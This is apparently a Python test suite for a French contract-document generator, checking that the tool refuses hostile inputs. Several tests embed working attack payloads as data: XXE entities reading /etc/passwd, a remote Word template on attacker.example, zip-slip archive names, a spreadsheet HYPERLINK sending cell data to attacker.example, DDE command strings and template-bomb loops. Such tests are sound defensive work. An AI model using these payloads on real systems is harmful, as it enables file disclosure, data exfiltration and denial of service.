"""The reproductions of the hostile-input review (../shared/reviews/2026-11-30-fiabilite.md),
one named test per finding (``test_M7_…``), plus the YAML traps of the newcomer review."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from clausegen.cli import cli
from tests.conftest import NETTOYAGE, ROOT

LIBRARY = ROOT / "clause_library"


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def _refused(result, code: int, *messages: str) -> None:  # type: ignore[no-untyped-def]
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    for message in messages:
        assert message in result.output, result.output


def _nettoyage_with(tmp_path: Path, old: str, new: str, name: str = "d.yml") -> Path:
    text = NETTOYAGE.read_text(encoding="utf-8")
    assert old in text
    path = tmp_path / name
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


# --- YAML input: dates, duplicate keys, implicit typing, positions ---------------------------


def test_M1_impossible_date_in_dossier_is_a_french_error_with_its_line(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = _nettoyage_with(tmp_path, "date_notification: 2026-12-14",
                              "date_notification: 2027-02-30")
    result = runner.invoke(cli, ["pieces", "--sans-pagination", str(dossier), "-o", str(tmp_path / "out")])
    _refused(result, 2, "date impossible « 2027-02-30 »", "ligne")
    assert not (tmp_path / "out").exists()


def test_M1_impossible_date_in_config_and_fragment_and_lot(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".clausegen.yml").write_text("bibliotheques: []\nle: 2027-02-30\n", encoding="utf-8")
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", "c.docx"])
    _refused(result, 2, ".clausegen.yml", "date impossible")
    (tmp_path / ".clausegen.yml").unlink()
    lot = tmp_path / "lot"
    lot.mkdir()
    _nettoyage_with(lot, "date_notification: 2026-12-14", "date_notification: 2027-02-30")
    result = runner.invoke(cli, ["lot", "--sans-pagination",
                                 str(lot), "-o", str(tmp_path / "sortie"), "-j", "1"])
    _refused(result, 1, "date impossible")
    assert "erreur inattendue" not in result.output


def test_L12_duplicate_key_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = _nettoyage_with(tmp_path, "  duree_mois: 48", "  duree_mois: 48\n  duree_mois: 6")
    result = runner.invoke(cli, ["faisabilite", str(dossier)])
    _refused(result, 2, "clé « duree_mois » présente deux fois")


def test_L18_year_0001_and_L1_year_9999_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for year in ("0001", "9999"):
        dossier = _nettoyage_with(tmp_path, "date_notification: 2026-12-14",
                                  f"date_notification: {year}-12-31")
        result = runner.invoke(cli, ["echeancier", str(dossier)])
        _refused(result, 2, "hors des années 1900 à 2199")


def test_item4_siret_postcode_and_reference_read_as_typed(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    text = NETTOYAGE.read_text(encoding="utf-8")
    text = text.replace('siret: "12345678900012"', "siret: 01234567000012")
    text = text.replace("reference: 2026-0142", "reference: 2027-03-15")
    dossier = tmp_path / "d.yml"
    dossier.write_text(text, encoding="utf-8")
    from clausegen.dossier_file import load_dossier

    loaded = load_dossier(dossier)
    assert loaded.marche.reference == "2027-03-15"
    assert loaded.titulaire is not None
    assert loaded.titulaire.siret == "01234567000012"


def test_item4_unknown_key_gives_line_column_and_closest_key(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = _nettoyage_with(tmp_path, "  duree_mois: 48", "  duree_moi: 48")
    result = runner.invoke(cli, ["faisabilite", str(dossier)])
    _refused(result, 2, "marche.duree_moi : champ inconnu", "vouliez-vous dire « duree_mois » ?")
    line = next(i for i, t in enumerate(dossier.read_text().splitlines(), 1) if "duree_moi:" in t)
    assert f"(ligne {line}, colonne 3)" in result.output


def test_item4_oui_non_accepted_where_a_boolean_is_expected(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    text = NETTOYAGE.read_text(encoding="utf-8")
    dossier = tmp_path / "d.yml"
    dossier.write_text(text.replace("realisee: true", "realisee: oui")
                       .replace("realisee: false", "realisee: non"), encoding="utf-8")
    reference = tmp_path / "ref.yml"
    reference.write_text(text, encoding="utf-8")
    from clausegen.dossier_file import load_dossier

    assert load_dossier(dossier).model_dump() == load_dossier(reference).model_dump()


def test_L13_error_list_is_capped(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = tmp_path / "d.yml"
    dossier.write_text(NETTOYAGE.read_text(encoding="utf-8")
                       + "".join(f"cle{i}: {i}\n" for i in range(500)), encoding="utf-8")
    result = runner.invoke(cli, ["faisabilite", str(dossier)])
    _refused(result, 2, "autres erreurs")
    assert len(result.output.splitlines()) < 40


# --- fragments and skeletons run bounded (H1, M2, M3, L2, L15) ---------------------------------


def _overlay(folder: Path, body: str, *, statut: str = "valide", revue: bool = True) -> Path:
    head = (LIBRARY / "fragments" / "general.objet" / "1.0.0.md").read_text(encoding="utf-8")
    head = head.split("---\n")[1].replace("statut: valide", f"statut: {statut}")
    if not revue:
        head = head.split("revue:")[0]
    target = folder / "fragments" / "general.objet"
    target.mkdir(parents=True)
    (target / "1.0.0.md").write_text(f"---\n{head}---\n{body}\n", encoding="utf-8")
    return folder


def _ccap_with_overlay(runner, tmp_path: Path, body: str):  # type: ignore[no-untyped-def]
    overlay = _overlay(tmp_path / "bib", body)
    out = tmp_path / "sortie"
    out.mkdir()
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", str(out / "ccap.docx"),
                                 "--bibliotheque", str(overlay)])
    assert _files(out) == []
    return result


def _skeleton(tmp_path: Path, text: str | None = None, *, parts: dict[str, bytes] | None = None,
              name: str = "m.docx") -> Path:
    import zipfile
    from xml.sax.saxutils import escape

    with zipfile.ZipFile(ROOT / "templates" / "piece.docx") as source:
        members = {i.filename: source.read(i.filename) for i in source.infolist()}
    if text is not None:
        document = members["word/document.xml"].decode("utf-8")
        slot = document.index("{{p corps }}")
        start = max(document.rfind("<w:p>", 0, slot), document.rfind("<w:p ", 0, slot))
        paragraph = f"<w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p>"
        members["word/document.xml"] = (document[:start] + paragraph + document[start:]).encode("utf-8")
    members.update(parts or {})
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return path


def _ccap_with_skeleton(runner, tmp_path: Path, modele: Path | str):  # type: ignore[no-untyped-def]
    out = tmp_path / "sortie"
    out.mkdir(exist_ok=True)
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", str(out / "ccap.docx"),
                                 "--modele", str(modele)])
    assert _files(out) == [], result.output
    return result


def test_H1_skeleton_loop_is_interrupted(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from clausegen import templating

    monkeypatch.setattr(templating, "RENDER_TIME_LIMIT", 0.5)
    loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    result = _ccap_with_skeleton(runner, tmp_path, _skeleton(tmp_path, loop))
    _refused(result, 2, "Modèle Word", "rendu interrompu après 0.5 s")


def test_H1_skeleton_huge_strings_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cases = {
        "{{ '{:>300000000}'.format(1) }}": "Modèle Word",
        "{{ 'x'|center(300000000) }}": "center",
        "{{ 'x' * 10**9 }}": "répétition trop longue",
        "{% set ns = namespace(s='xxxxxxxx') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s|length }}": "trop long",
    }
    for index, (field, message) in enumerate(cases.items()):
        folder = tmp_path / str(index)
        folder.mkdir()
        result = _ccap_with_skeleton(runner, folder, _skeleton(folder, field))
        _refused(result, 2, "Modèle Word", message)


def test_M2_fragment_runtime_errors_are_french(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cases = {
        "{{ ccag_ref('penalite_plafond') }}": "clé CCAG inconnue",
        "{{ ccag_ref(none) }}": "clé CCAG inconnue",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}": "appels récursifs sans fin",
        "{{ marche.objet | date_longue }}": "mauvais type",
        "{{ marche.objet | libelle }}": "mauvais type",
        "{{ marche.objet | montant }}": "nombre attendu",
        "{{ none | pourcentage }}": "mauvais type",
    }
    for index, (body, message) in enumerate(cases.items()):
        result = _ccap_with_overlay(runner, tmp_path / str(index), body)
        _refused(result, 2, "Fragment « general.objet »", message)


def test_M3_doubling_with_tilde_plus_or_extend_is_bounded(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cases = [
        "{% set ns = namespace(s=[1,2,3,4,5,6,7,8]) %}{% for i in range(24) %}"
        "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s|length }}",
        "{% set ns = namespace(s='abcdefgh') %}{% for i in range(40) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
        "{% set s = [1] %}{% for i in range(40) %}{% if s.extend(s) %}{% endif %}{% endfor %}",
        "{{ (['x' * 1000000] * 1000000) | join }}",
    ]
    for index, body in enumerate(cases):
        result = _ccap_with_overlay(runner, tmp_path / str(index), body)
        _refused(result, 2, "Fragment « general.objet »", "trop long")


def test_L2_canevas_condition_has_a_time_limit(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from clausegen import templating
    from clausegen.errors import FragmentRenderError

    monkeypatch.setattr(templating, "RENDER_TIME_LIMIT", 0.3)
    slow = " and ".join(["(range(99999) | map('string') | join | length) > 0"] * 40)
    import pytest

    with pytest.raises(FragmentRenderError, match="interrompu"):
        templating.evaluate_condition(slow, {}, where="canevas ccap")
    assert templating.evaluate_condition("(range(3) | list | length) > 0", {}, where="canevas ccap") is True


def test_L15_filter_errors_are_readable(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = _ccap_with_overlay(runner, tmp_path, "{{ marche.objet | en_lettres }}")
    _refused(result, 2, "nombre attendu")
    assert "ConversionSyntax" not in result.output


# --- hostile skeletons (M4, M5, M6) -----------------------------------------------------------


def _raw_zip(path: Path, members: dict[str, bytes], *, patch=None) -> Path:  # type: ignore[no-untyped-def]
    import zipfile

    with zipfile.ZipFile(ROOT / "templates" / "piece.docx") as source:
        parts = {i.filename: source.read(i.filename) for i in source.infolist()}
    parts.update(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for member, data in parts.items():
            archive.writestr(member, data)
    if patch is not None:
        path.write_bytes(patch(path.read_bytes()))
    return path


def _local_header_patch(field_offset: int, value: bytes):  # type: ignore[no-untyped-def]
    """Patch a field of word/document.xml's local header and central directory entry."""
    def patch(data: bytes) -> bytes:
        name = b"word/document.xml"
        buffer = bytearray(data)
        start = 0
        while True:
            start = buffer.find(name, start)
            if start < 0:
                break
            if buffer[start - 30:start - 26] == b"PK\x03\x04":
                offset = start - 30 + field_offset
                buffer[offset:offset + len(value)] = value
            elif buffer[start - 46:start - 42] == b"PK\x01\x02":
                offset = start - 46 + field_offset + 2
                buffer[offset:offset + len(value)] = value
            start += len(name)
        return bytes(buffer)
    return patch


def test_M4_damaged_encrypted_or_unknown_compression_skeleton(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import struct

    bad_crc = _raw_zip(tmp_path / "crc.docx", {}, patch=_local_header_patch(14, struct.pack("<L", 1)))
    method = _raw_zip(tmp_path / "method.docx", {}, patch=_local_header_patch(8, struct.pack("<H", 99)))
    encrypted = _raw_zip(tmp_path / "enc.docx", {}, patch=_local_header_patch(6, struct.pack("<H", 1)))
    for modele, message in ((bad_crc, "archive illisible"), (method, "compressé d'une façon inconnue"),
                            (encrypted, "archive chiffrée")):
        result = _ccap_with_skeleton(runner, tmp_path, modele)
        _refused(result, 2, "Modèle Word", message)


def test_M5_device_or_fifo_skeleton_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import os

    fifo = tmp_path / "fifo.docx"
    os.mkfifo(fifo)
    for modele in ("/dev/zero", "/dev/urandom", str(fifo)):
        result = _ccap_with_skeleton(runner, tmp_path, modele)
        _refused(result, 2, "Modèle Word", "ce n'est pas un fichier")


def test_M6_hostile_parts_in_a_skeleton_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    with __import__("zipfile").ZipFile(ROOT / "templates" / "piece.docx") as source:
        document = source.read("word/document.xml")
        core = source.read("docProps/core.xml")
    def with_doctype(xml: bytes) -> bytes:
        end = xml.index(b"?>") + 2
        return xml[:end] + doctype + xml[end:]

    remote = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
              b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
              b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
              b' Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    cases = {
        "xxe-document": ({"word/document.xml": with_doctype(document)},
                         "DOCTYPE ou ENTITY interdite"),
        "xxe-core": ({"docProps/core.xml": with_doctype(core)},
                     "DOCTYPE ou ENTITY interdite"),
        "modele-distant": ({"word/_rels/settings.xml.rels": remote}, "fichier extérieur"),
        "zip-slip": ({"../../../../x.txt": b"x"}, "nom de membre"),
        "absolu": ({"/abs/evil.txt": b"x"}, "nom de membre"),
    }
    for index, (members, message) in cases.items():
        folder = tmp_path / index
        folder.mkdir()
        result = _ccap_with_skeleton(runner, folder, _raw_zip(folder / "m.docx", members))
        _refused(result, 2, "Modèle Word", message)


def test_M6_undeclared_members_are_dropped_and_duplicates_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import io
    import zipfile

    junk = {f"junk/{i}.bin": b"x" for i in range(50)}
    modele = _raw_zip(tmp_path / "junk.docx", junk)
    out = tmp_path / "c.docx"
    result = runner.invoke(cli, ["ccap", "--sans-pagination",
                                 str(NETTOYAGE), "-o", str(out), "--modele", str(modele)])
    assert result.exit_code == 0, result.output
    names = zipfile.ZipFile(io.BytesIO(out.read_bytes())).namelist()
    assert not any(n.startswith("junk/") for n in names)
    duplicated = tmp_path / "dup.docx"
    with zipfile.ZipFile(duplicated, "w") as archive, zipfile.ZipFile(modele) as source:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("word/document.xml", source.read("word/document.xml"))
    result = _ccap_with_skeleton(runner, tmp_path, duplicated)
    _refused(result, 2, "en double")


# --- verifier-document (M7, M8) ----------------------------------------------------------------


def _generated(runner, tmp_path: Path) -> Path:  # type: ignore[no-untyped-def]
    out = tmp_path / "ccap.docx"
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _with_part(source: Path, target: Path, name: str, change) -> Path:  # type: ignore[no-untyped-def]
    import zipfile

    with zipfile.ZipFile(source) as archive:
        parts = {i.filename: archive.read(i.filename) for i in archive.infolist()}
    new = change(parts[name])
    if new is None:
        del parts[name]
    else:
        parts[name] = new
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in parts.items():
            archive.writestr(member, data)
    return target


def test_M7_verifier_document_on_any_file(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import os

    docx = _generated(runner, tmp_path)
    empty = tmp_path / "vide.docx"
    empty.write_bytes(b"")
    fifo = tmp_path / "fifo.docx"
    os.mkfifo(fifo)
    custom = "docProps/custom.xml"
    doctype = b'<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    cases = {
        str(ROOT / "README.md"): "ce n'est pas un document Word",
        str(empty): "ce n'est pas un document Word",
        "/dev/zero": "ce n'est pas un fichier",
        str(fifo): "ce n'est pas un fichier",
        str(_with_part(docx, tmp_path / "tronque.docx", custom, lambda d: d[:50])):
            "propriétés du document illisibles",
        str(_with_part(docx, tmp_path / "xxe.docx", custom,
                       lambda d: d.replace(b"?>", b"?>" + doctype, 1))): "DOCTYPE ou ENTITY interdite",
    }
    for path, message in cases.items():
        result = runner.invoke(cli, ["verifier-document", path])
        _refused(result, 2, message)
    bad_version = _with_part(docx, tmp_path / "version.docx", custom,
                             lambda d: d.replace(b">1.0.0 sha256:", b">abc sha256:", 1))
    result = runner.invoke(cli, ["verifier-document", str(bad_version)])
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output


FRAGMENT_PROPERTY = rb'<property [^>]*name="clausegen\.fragment\.[^"]*">.*?</property>'


def test_M8_verifier_document_detects_changed_text_and_stripped_provenance(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import re

    docx = _generated(runner, tmp_path)
    intact = runner.invoke(cli, ["verifier-document", str(docx)])
    assert intact.exit_code == 0, intact.output
    assert "Document intact" in intact.output
    edited = _with_part(docx, tmp_path / "modifie.docx", "word/document.xml",
                        lambda d: d.replace("à compter de sa notification".encode(),
                                            "à compter du jour qui lui plaira".encode()))
    assert edited.read_bytes() != docx.read_bytes()
    result = runner.invoke(cli, ["verifier-document", str(edited)])
    _refused(result, 1, "texte modifié depuis la génération")
    detail = runner.invoke(cli, ["verifier-document", str(edited), "--dossier", str(NETTOYAGE)])
    _refused(detail, 1, "Modifications du texte depuis la génération")
    removed = [line for line in detail.output.splitlines() if line.startswith("- ")]
    added = [line for line in detail.output.splitlines() if line.startswith("+ ")]
    assert len(removed) == len(added) == 1
    assert "à compter de sa notification" in removed[0]
    assert "à compter du jour qui lui plaira" in added[0]
    clean = runner.invoke(cli, ["verifier-document", str(docx), "--dossier", str(NETTOYAGE)])
    assert clean.exit_code == 0, clean.output
    assert "Modifications" not in clean.output
    stripped = _with_part(docx, tmp_path / "sans-fragments.docx", "docProps/custom.xml",
                          lambda d: re.sub(FRAGMENT_PROPERTY, b"", d))
    result = runner.invoke(cli, ["verifier-document", str(stripped)])
    _refused(result, 1, "provenance incomplète")


# --- dashboard workbook (M9) -------------------------------------------------------------------


def test_M9_xlsx_cells_never_start_a_formula_from_user_text(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import openpyxl
    import yaml

    data = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
    axis = data["plans"][0]["axes"][0]  # the first rows of the year-1 sheet
    link = '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'
    axis["objectifs"][0].update(libelle=link, indicateur="=1+1", unite="=cmd|' /C calc'!A0")
    axis["actions_titulaire"][0]["libelle"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    dossier = tmp_path / "d.yml"
    dossier.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    out = tmp_path / "t.xlsx"
    result = runner.invoke(cli, ["tableau-de-bord", str(dossier), "-o", str(out)])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["Année 1"]
    values = {cell.coordinate: cell for cell in sheet[2]}
    assert values["B2"].value.startswith("=HYPERLINK")
    assert values["I2"].value.startswith("@SUM")  # « Actions » column (user text first)
    for coordinate in ("B2", "C2", "D2", "I2"):
        assert values[coordinate].data_type == "s", coordinate
        assert values[coordinate].quotePrefix, coordinate
    assert sheet["G2"].data_type == "f"  # the workbook's own formula stays a formula


# --- parse cache (M10) -------------------------------------------------------------------------


def test_M10_cache_cannot_change_content_and_same_size_edits_are_seen(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import json
    import os

    from clausegen.cache.store import SignedCache
    from clausegen.library import load_library, loader

    monkeypatch.setenv("CLAUSEGEN_CACHE", str(tmp_path / "cache"))
    # The snapshot cache opens its directory once per process: a fresh one reads this test's.
    monkeypatch.setattr(loader, "_SNAPSHOTS", SignedCache(loader._snapshot_namespace, ".json"))
    overlay = _overlay(tmp_path / "bib", "Texte original de la clause.")
    fragment = overlay / "fragments" / "general.objet" / "1.0.0.md"
    os.utime(fragment, (1_700_000_000, 1_700_000_000))
    first = load_library(LIBRARY, overlay).get("general.objet", "1.0.0")
    [cache_file] = [p for p in (tmp_path / "cache").glob("bibliotheques-*/*.json")]
    signature, _, text = cache_file.read_bytes().partition(b"\n")
    payload = json.loads(text)
    for entry in payload["fragments"]:
        entry["body"] = "Texte empoisonné."
        entry["sha256"] = "0" * 64
    cache_file.write_bytes(signature + b"\n" + json.dumps(payload).encode("utf-8"))
    second = load_library(LIBRARY, overlay).get("general.objet", "1.0.0")
    assert (second.body, second.sha256) == (first.body, first.sha256)
    fragment.write_text(fragment.read_text(encoding="utf-8").replace("original", "ORIGINAL"),
                        encoding="utf-8")
    os.utime(fragment, (1_700_000_000, 1_700_000_000))  # same size, same time
    third = load_library(LIBRARY, overlay).get("general.objet", "1.0.0")
    assert "ORIGINAL" in third.body
    assert third.sha256 != first.sha256


# --- overlays (M11, M12) -----------------------------------------------------------------------


def test_M11_overlay_cannot_redefine_a_published_release(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import shutil

    overlay = _overlay(tmp_path / "bib", "Texte substitué.")
    (overlay / "releases").mkdir()
    published = sorted((LIBRARY / "releases").glob("*.yml"))[-1]
    shutil.copy(published, overlay / "releases" / published.name)
    dossier = _nettoyage_with(tmp_path, "marche:", f"bibliotheque: {published.stem}\nmarche:")
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(dossier), "-o", str(tmp_path / "c.docx"),
                                 "--bibliotheque", str(overlay)])
    _refused(result, 2, "une publication ne peut pas être redéfinie")
    assert not (tmp_path / "c.docx").exists()
    result = runner.invoke(cli, ["bibliotheque", "verifier", "--bibliotheque", str(overlay)])
    _refused(result, 2, "une publication ne peut pas être redéfinie")


def test_M11_planted_config_is_announced(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _overlay(tmp_path / ".bib", "Texte planté.")
    (tmp_path / ".clausegen.yml").write_text("bibliotheques: [.bib]\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", "c.docx"])
    assert result.exit_code == 0, result.output
    assert "Bibliothèques de l'organisation ajoutées par" in result.output
    assert ".clausegen.yml" in result.output
    assert str(tmp_path / ".bib") in result.output


def test_M12_valide_without_review_is_refused_outside_drafts(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    overlay = _overlay(tmp_path / "bib", "Texte sans revue.", revue=False)
    base = ["ccap", "--sans-pagination", str(NETTOYAGE), "--bibliotheque", str(overlay)]
    result = runner.invoke(cli, [*base, "-o", str(tmp_path / "c.docx")])
    _refused(result, 2, "version « valide » sans revue")
    assert not (tmp_path / "c.docx").exists()
    result = runner.invoke(cli, [*base, "-o", str(tmp_path / "p.docx"), "--brouillon"])
    assert result.exit_code == 0, result.output
    assert "document PROJET" in result.output


# --- lot under faults (M13, M14, M15, M16) ----------------------------------------------------


def _many_dossiers(folder: Path, count: int) -> Path:
    folder.mkdir()
    text = NETTOYAGE.read_text(encoding="utf-8")
    for index in range(count):
        (folder / f"m{index:04d}.yml").write_text(text, encoding="utf-8")
    return folder


def _children(pid: int) -> list[int]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def _start_lot(tmp_path: Path, count: int = 400):  # type: ignore[no-untyped-def]
    import subprocess
    import sys
    import time

    dossiers = _many_dossiers(tmp_path / "dossiers", count)
    out = tmp_path / "sortie"
    process = subprocess.Popen([sys.executable, "-m", "clausegen", "lot", "--sans-pagination", str(dossiers),
                                "-o", str(out), "-j", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    deadline = time.monotonic() + 60
    while not any(out.glob("*/cctp.docx")) and time.monotonic() < deadline:
        time.sleep(0.05)
    return process, out


def test_M13_lot_ctrl_c_stops_with_a_summary(tmp_path: Path) -> None:
    import signal

    process, out = _start_lot(tmp_path)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert "Interrompu" in stderr
    assert "entièrement générés" in stderr
    assert "Traceback" not in stderr
    written = [d for d in out.iterdir() if d.is_dir()]
    assert len(written) < 400
    contents = {d.name: sorted(p.name for p in d.iterdir()) for d in written}
    assert all(c == ["ccap.docx", "cctp.docx"] for c in contents.values()), contents


def test_M14_lot_sigterm_leaves_no_orphan_worker(tmp_path: Path) -> None:
    import signal
    import time

    process, _ = _start_lot(tmp_path)
    workers = _children(process.pid)
    assert workers
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr
    deadline = time.monotonic() + 10
    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(_alive(w) for w in workers)


def test_M15_killed_worker_fails_its_dossier_and_the_batch_goes_on(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import os

    from clausegen.api import lot

    dossiers = sorted(_many_dossiers(tmp_path / "dossiers", 12).iterdir())
    killer = dossiers[5]
    real = lot.run_job

    def run_job(dossier: Path, options: lot.BatchOptions) -> lot.JobResult:
        if dossier == killer:
            os.kill(os.getpid(), 9)  # what the OOM killer does
        return real(dossier, options)

    monkeypatch.setattr(lot, "run_job", run_job)
    summary = lot.run_batch(dossiers, lot.BatchOptions(output=tmp_path / "sortie", paginer=False), 2)
    assert [r.dossier for r in summary.failed] == [killer]
    assert "arrêté par le système" in str(summary.failed[0].error)
    assert len(summary.results) == 12
    assert not (tmp_path / "sortie" / killer.stem).exists()


def test_M16_two_dossiers_for_one_output_folder_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "dossiers"
    folder.mkdir()
    text = NETTOYAGE.read_text(encoding="utf-8")
    (folder / "collision.yml").write_text(text, encoding="utf-8")
    (folder / "collision.yaml").write_text(text, encoding="utf-8")
    result = runner.invoke(cli, ["lot", "--sans-pagination", str(folder), "-o", str(tmp_path / "sortie")])
    _refused(result, 2, "collision.yaml et collision.yml")
    assert not (tmp_path / "sortie").exists()


# --- outputs (M17, L6, L7, L8, L9, L10, item 5) ------------------------------------------------


def test_M17_output_onto_a_device_or_fifo_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import os
    import stat

    fifo = tmp_path / "tube.docx"
    os.mkfifo(fifo)
    for target in (fifo, Path("/dev/null")):
        result = runner.invoke(cli, ["ccap", "--sans-pagination", str(NETTOYAGE), "-o", str(target)])
        _refused(result, 1, "ce n'est pas un fichier ordinaire")
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert stat.S_ISCHR(Path("/dev/null").stat().st_mode)


def test_L10_output_equal_to_the_input_dossier_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = tmp_path / "d.docx"
    dossier.write_text(NETTOYAGE.read_text(encoding="utf-8"), encoding="utf-8")
    before = dossier.read_bytes()
    result = runner.invoke(cli, ["ccap", "--sans-pagination", str(dossier), "-o", str(dossier)])
    _refused(result, 1, "fichier lu par la commande")
    assert dossier.read_bytes() == before


def test_L7_output_mode_follows_umask_and_existing_mode(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import os

    previous = os.umask(0o077)
    try:
        new = tmp_path / "nouveau.docx"
        assert runner.invoke(cli, ["ccap", "--sans-pagination",
                                   str(NETTOYAGE), "-o", str(new)]).exit_code == 0
        assert new.stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(previous)
    existing = tmp_path / "existant.docx"
    existing.write_bytes(b"")
    existing.chmod(0o640)
    assert runner.invoke(cli, ["ccap", "--sans-pagination",
                               str(NETTOYAGE), "-o", str(existing)]).exit_code == 0
    assert existing.stat().st_mode & 0o777 == 0o640


def test_L8_interruption_while_writing_leaves_no_temporary(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import os

    import pytest

    from clausegen import output

    def interrupted(*args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        output.write_atomic(tmp_path / "x.docx", b"data")
    assert list(tmp_path.iterdir()) == []


def test_L9_item5_pieces_suivi_writes_everything_or_nothing(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import yaml

    data = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
    data["plans"][0]["cout_supplementaire_ht"] = 1000  # an avenant is needed: the letter is refused
    dossier = tmp_path / "d.yml"
    dossier.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    out = tmp_path / "sortie"
    result = runner.invoke(cli, ["pieces", "--sans-pagination", str(dossier), "-o", str(out), "--suivi"])
    _refused(result, 1, "avenant")
    assert not out.exists() or _files(out) == []
    assert not any(p.name.endswith(".tmp") for p in tmp_path.rglob("*"))


def test_L6_newline_in_reference_gives_a_calendar(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    dossier = _nettoyage_with(tmp_path, "reference: 2026-0142", 'reference: "2026-0142\\nbis"')
    out = tmp_path / "e.ics"
    result = runner.invoke(cli, ["echeancier", str(dossier), "--ics", str(out)])
    assert result.exit_code == 0, result.output
